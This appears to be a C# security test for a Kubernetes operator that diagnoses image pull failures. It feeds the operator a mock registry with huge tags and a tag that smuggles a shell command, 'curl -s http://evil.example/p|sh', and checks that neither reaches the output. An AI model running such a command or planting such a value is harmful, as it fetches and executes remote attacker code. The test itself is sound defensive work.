using System.Text;
using System.Text.Json;
using k8s;
using PullDoctor.Operator.Crds;
using PullDoctor.Operator.Tests.Support;
using PullDoctor.RegistryFixtures.Hostile;
using PullDoctor.Security.Tests.Support;

namespace PullDoctor.Security.Tests.Bounds;

/// <summary>
/// Classes 2 and 3 end to end, as the review ran them: the real <c>pulldoctor run</c> process, a pod with eight
/// containers stuck on a wrong tag, and a registry whose tag list holds a command disguised as a tag and five
/// 3.9 MB tags. Before: a 226 MB status, 3.7 GB RSS, and <c>set image …:1.25.3;curl …|sh;#</c> offered as the fix.
/// </summary>
public sealed class HostileTagsEndToEndTests
{
    private const string CommandTag = "1.25.3;curl -s http://evil.example/p|sh;#";
    private static readonly TimeSpan Bound = TimeSpan.FromSeconds(60);

    [Test]
    public async Task HugeAndHostileTags_GiveABoundedStatus_AndOnlyRealTagsAsFixes()
    {
        await using var cluster = await VictimCluster.StartAsync();
        cluster.Server.Apply(File.ReadAllText(RepositoryPaths.Of("deploy/crds/imagepulldiagnoses.pulldoctor.dev.yaml")));
        await using var registry = HostileRegistry.Start();
        // Seven pages, as distribution paginates: a command disguised as a tag, five 3.9 MB tags, the real tags.
        string[][] pages = [[CommandTag, "1.25.4"], .. Enumerable.Range(0, 5).Select(i => new[] { $"1.25.{i}" + new string('x', 3_900_000) }), ["1.26.0"]];
        var served = 0;
        registry.On("/v2/", HostileResponse.Json(200, "{}"))
            .On("/v2/team/app/manifests/*", HostileResponse.RegistryError(404, "MANIFEST_UNKNOWN", "manifest unknown"))
            .On("/v2/team/app/tags/list", _ =>
            {
                var n = Interlocked.Increment(ref served) - 1;
                var page = HostileResponse.Json(200, JsonSerializer.Serialize(new { name = "team/app", tags = pages[n % pages.Length] }));
                return n % pages.Length < pages.Length - 1 ? page.WithHeader("Link", $"</v2/team/app/tags/list?n=100&last=p{n}>; rel=\"next\"") : page;
            });
        var image = $"{registry.Host}/team/app:1.25.9";
        var kubeconfig = cluster.WriteKubeconfig();
        // A plain-HTTP registry, configured as a user configures one (the fixture does not answer a TLS handshake).
        await using var pulldoctor = OperatorProcess.Start(kubeconfig, new Dictionary<string, string> { ["PULLDOCTOR_PLAIN_HTTP_REGISTRIES"] = registry.Host });

        cluster.AddStuckPod("web", image: image, containers: 8, message: NotFound(image));

        using var client = new Kubernetes(KubernetesClientConfiguration.BuildConfigFromConfigFile(kubeconfig));
        var diagnosis = await pulldoctor.WaitForDiagnosisAsync(client, "web", d => d.Status?.Containers?.Count == 8 && d.Status.Containers.All(c => c.Confidence == "Confirmed"), Bound);
        var status = JsonSerializer.Serialize(diagnosis.Status);
        var events = await client.CoreV1.ListNamespacedEventAsync("shop");
        var eventText = string.Join("\n", events.Items.Select(e => e.Message));
        var peak = pulldoctor.PeakResidentMiB;
        TestContext.Out.WriteLine($"status {Encoding.UTF8.GetByteCount(status)} bytes, {events.Items.Count} events, peak RSS {peak:0} MiB; {served} tag pages served");

        Assert.Multiple(() =>
        {
            Assert.That(diagnosis.Status!.Cause, Is.EqualTo("TagNotFound"), status);
            Assert.That(Encoding.UTF8.GetByteCount(status), Is.LessThan(64 * 1024), "eight containers' diagnoses, not megabytes of tags");
            Assert.That(status + eventText, Does.Not.Contain("curl").And.Not.Contain("xxxxxxxxxx"), "neither the disguised command nor the huge tags reach the status or the Events");
            Assert.That(diagnosis.Status.Containers!.SelectMany(c => c.Suggestions ?? []), Has.Some.Contains("1.25.4"), "the nearest real tag is suggested");
            Assert.That(served, Is.GreaterThanOrEqualTo(pages.Length), "the probe read past the huge pages");
            Assert.That(peak, Is.LessThan(256), "the chart's memory limit is 256 Mi");
        });
    }

    // containerd 1.7's wording for a tag the registry does not have (pkg/cri/server/image_pull.go, remotes/docker/resolver.go).
    private static string NotFound(string image) =>
        $"rpc error: code = NotFound desc = failed to pull and unpack image \"{image}\": failed to resolve reference \"{image}\": {image}: not found";
}
